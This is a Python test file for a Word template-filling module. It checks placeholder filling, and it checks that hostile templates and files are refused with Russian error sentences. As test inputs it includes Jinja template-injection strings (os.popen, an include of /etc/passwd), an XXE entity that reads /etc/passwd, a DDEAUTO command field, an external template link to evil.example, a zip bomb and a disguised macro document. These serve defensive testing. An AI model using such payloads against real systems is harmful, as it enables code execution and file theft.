"""Word files that people edit: what is taken, what is refused and in which words, what comes out."""

import io
import zipfile

import pytest
from docx import Document

from mcu.core.documents import Sheet, build, checked, clean, faults, fill, names, pdf
from mcu.core.errors import RuleViolation

VALUES = {"номер": "17-Г/2026", "текст": "Дорогу починят.", "срок": ""}


def paper(*lines: str) -> bytes:
    return build(Sheet("Письмо", text=lines))


def words(content: bytes) -> list[str]:
    return [p.text for p in Document(io.BytesIO(content)).paragraphs if p.text]


def repacked(content: bytes, **changed: bytes) -> bytes:
    """The same package with parts replaced or added; «__» in a name is «/»."""
    parts = {name.replace("__", "/"): part for name, part in changed.items()}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            new.writestr(name, parts.pop(name, None) or old.read(name))
        for name, part in parts.items():
            new.writestr(name, part)
    return out.getvalue()


def sentences(content: bytes) -> list[str]:
    return [fault.sentence for fault in faults(checked(content), VALUES)]


def test_names_are_filled_in_and_a_line_break_begins_a_paragraph():
    made = fill(paper("№ {{ номер }}", "{{текст}}"), VALUES | {"текст": "Раз.\nДва.\r\n\r\nТри."})
    assert words(made) == ["Письмо", "№ 17-Г/2026", "Раз.", "Два.", "Три."]


def test_what_has_nothing_to_say_is_left_out_with_its_paragraph():
    template = paper("{%p if срок %}", "До {{ срок }}", "{%p else %}", "Без срока", "{%p endif %}")
    assert words(fill(template, VALUES)) == ["Письмо", "Без срока"]
    assert words(fill(template, VALUES | {"срок": "16.12.2026"})) == ["Письмо", "До 16.12.2026"]


def test_a_name_that_word_cut_into_pieces_is_one_name():
    document = Document(io.BytesIO(paper()))
    paragraph = document.add_paragraph()
    for number, piece in enumerate(("{", "{ ном", "ер }", "}")):
        paragraph.add_run(piece).bold = bool(number % 2)
    out = io.BytesIO()
    document.save(out)
    assert names(checked(out.getvalue())) == {"номер"}
    assert words(fill(out.getvalue(), VALUES)) == ["Письмо", "17-Г/2026"]


def test_headers_and_footers_are_filled_and_checked_as_well():
    document = Document(io.BytesIO(paper()))
    document.sections[0].header.paragraphs[0].text = "№ {{ номер }}"
    document.sections[0].footer.paragraphs[0].text = "{{ номир }}"
    out = io.BytesIO()
    document.save(out)
    assert any("«номир»" in one and "{{ номер }}" in one for one in sentences(out.getvalue()))
    document.sections[0].footer.paragraphs[0].text = "{{ номер }}"
    out = io.BytesIO()
    document.save(out)
    made = Document(io.BytesIO(fill(out.getvalue(), VALUES)))
    assert made.sections[0].header.paragraphs[0].text == "№ 17-Г/2026"
    assert made.sections[0].footer.paragraphs[0].text == "17-Г/2026"


def test_an_unknown_name_is_told_with_its_paragraph_and_the_nearest_known_one():
    found = sentences(paper("Здравствуйте!", "Ваш {{ Номерр }}"))
    assert found == [
        "Абзац 3 («Ваш {{ Номерр }}»): нет такого имени «Номерр». Похоже на {{ номер }}."
    ]


@pytest.mark.parametrize(
    "line",
    [
        "{{ номер }", "{ номер }}", "{номер}", "{{ номер", "номер }}", "{% if номер %}", "{% endif %}",
        "{% else %}", "{%p if срок %", "{{ }}", "{{ две слова }}", "{# тайное #}", "{{ 7*7 }}",
        "{{ ''.__class__ }}", "{{ номер.__class__.__mro__ }}", "{{ номер|upper }}", "{{ номер() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{% for a in номер %}{% endfor %}",
        "{% include '/etc/passwd' %}", "{% import 'os' as o %}", "{% set номер = 1 %}",
        "{% macro a() %}{% endmacro %}", "{%tc if номер %}", "{{r номер }}", "{% raw %}", "{{ self }}",
        "{% colspan номер %}", "{% if номер == 1 %}{% endif %}", "{{ lipsum }}", "{{ номер['a'] }}",
        "{% if номер %}{% elif текст %}{% endif %}", "{%- if номер -%}", "{{ 'а' * 999999999 }}",
    ],
)  # fmt: skip
def test_anything_but_names_and_conditions_is_refused_with_its_paragraph(line):
    template = paper("Здравствуйте!", line)
    found = sentences(template)
    assert found
    assert found[0].startswith("Абзац 3 («")
    with pytest.raises(RuleViolation):
        fill(template, VALUES)


def test_a_tag_hidden_in_an_attribute_meets_the_second_look():
    template = paper("{{ номер }}")
    with zipfile.ZipFile(io.BytesIO(template)) as package:
        body = package.read("word/document.xml")
    evil = body.replace(b"<w:p>", b'<w:p w:rsidR="{{ cycler.__init__ }}">', 1)
    with pytest.raises(RuleViolation, match="заполнить нельзя"):
        fill(repacked(template, **{"word__document.xml": evil}), VALUES)


def test_a_name_in_the_properties_of_the_file_is_named():
    document = Document(io.BytesIO(paper()))
    document.core_properties.title = "{{ номер }}"
    out = io.BytesIO()
    document.save(out)
    assert "сносках и свойствах" in sentences(out.getvalue())[0]


def test_values_are_text_whatever_is_in_them():
    hostile = (
        "<w:p/> & {{ номер }} {% if x %} {_{ \x00\x07\x1b\u202eонтарбо\ud800 ]]> *жирно* #panic()"
    )
    made = fill(paper("{{ текст }}"), VALUES | {"текст": hostile})
    assert words(made)[1].startswith("<w:p/> & {{ номер }} {% if x %}")
    assert "\u202e" not in words(made)[1]
    assert pdf(made, "Письмо").startswith(b"%PDF")


def test_clean_text_has_no_hidden_marks_and_no_empty_lines():
    assert clean("а\u202eб\u200bв\x07\n\n  г\tд  ") == "абв\nг д"
    assert clean("а\nб", lines=False) == "а б"


def bomb() -> bytes:
    zeros = b"<a>" + b" " * (17 * 2**20) + b"</a>"
    return repacked(paper(), **{"word__media__a.xml": zeros})


def with_part(name: str, part: bytes) -> bytes:
    return repacked(paper(), **{name: part})


OUTSIDE = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" TargetMode="External" Target="http://evil.example/t.dotm" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    b"</Relationships>"
)
FIELD = (
    b'<w:p xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:r>'
    b'<w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r></w:p>'
)
ENTITY = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda: b"", "повреждён"),
        (lambda: b"PK\x03\x04" + b"x" * 100, "повреждён"),
        (lambda: b"\xd0\xcf\x11\xe0" + b"\x00" * 600, "старого Word"),
        (lambda: paper()[:-400], "повреждён"),
        (bomb, "слишком много"),
        (lambda: with_part("word__vbaProject.bin", b"x"), "макросы"),
        (lambda: with_part("word__embeddings__a.bin", b"x"), "макросы"),
        (lambda: with_part("[Content_Types].xml", b"<Types/>"), "не документ Word"),
        (lambda: with_part("word__document.xml", b"<w:document>"), "не читается"),
        (lambda: with_part("word__extra.xml", ENTITY), "не так"),
        (lambda: with_part("word___rels__settings.xml.rels", OUTSIDE), "вне себя"),
        (lambda: with_part("word__extra.xml", FIELD), "поле Word"),
    ],
)
def test_a_file_that_runs_grows_or_fetches_is_refused_in_words(make, said):
    with pytest.raises(RuleViolation) as refusal:
        checked(make())
    assert said in refusal.value.sentence


def test_a_macro_document_renamed_to_docx_is_refused():
    with zipfile.ZipFile(io.BytesIO(paper())) as package:
        types = package.read("[Content_Types].xml")
    macro = types.replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    with pytest.raises(RuleViolation, match="макросы"):
        checked(repacked(paper(), **{"[Content_Types].xml": macro}))


@pytest.mark.long
def test_a_word_longer_than_the_page_and_ten_thousand_lines_are_set():
    long = fill(paper("{{ текст }}"), VALUES | {"текст": "ы" * 5000 + "\nстрока" * 2000})
    assert pdf(long, "Письмо").startswith(b"%PDF")
